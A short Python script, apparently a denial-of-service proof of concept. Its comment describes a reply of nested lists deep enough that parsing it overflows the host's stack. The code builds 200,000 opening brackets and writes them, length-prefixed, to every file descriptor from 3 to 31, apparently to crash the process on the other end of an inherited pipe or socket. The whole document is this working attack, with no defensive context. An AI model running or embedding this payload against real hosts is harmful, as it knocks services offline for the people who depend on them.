# dos: a reply of nested lists, so deep that reading it overflows the host's stack
import os,struct
b=b'['*200_000
for fd in range(3,32):
    try: os.write(fd,struct.pack('>I',len(b))+b)
    except OSError: pass
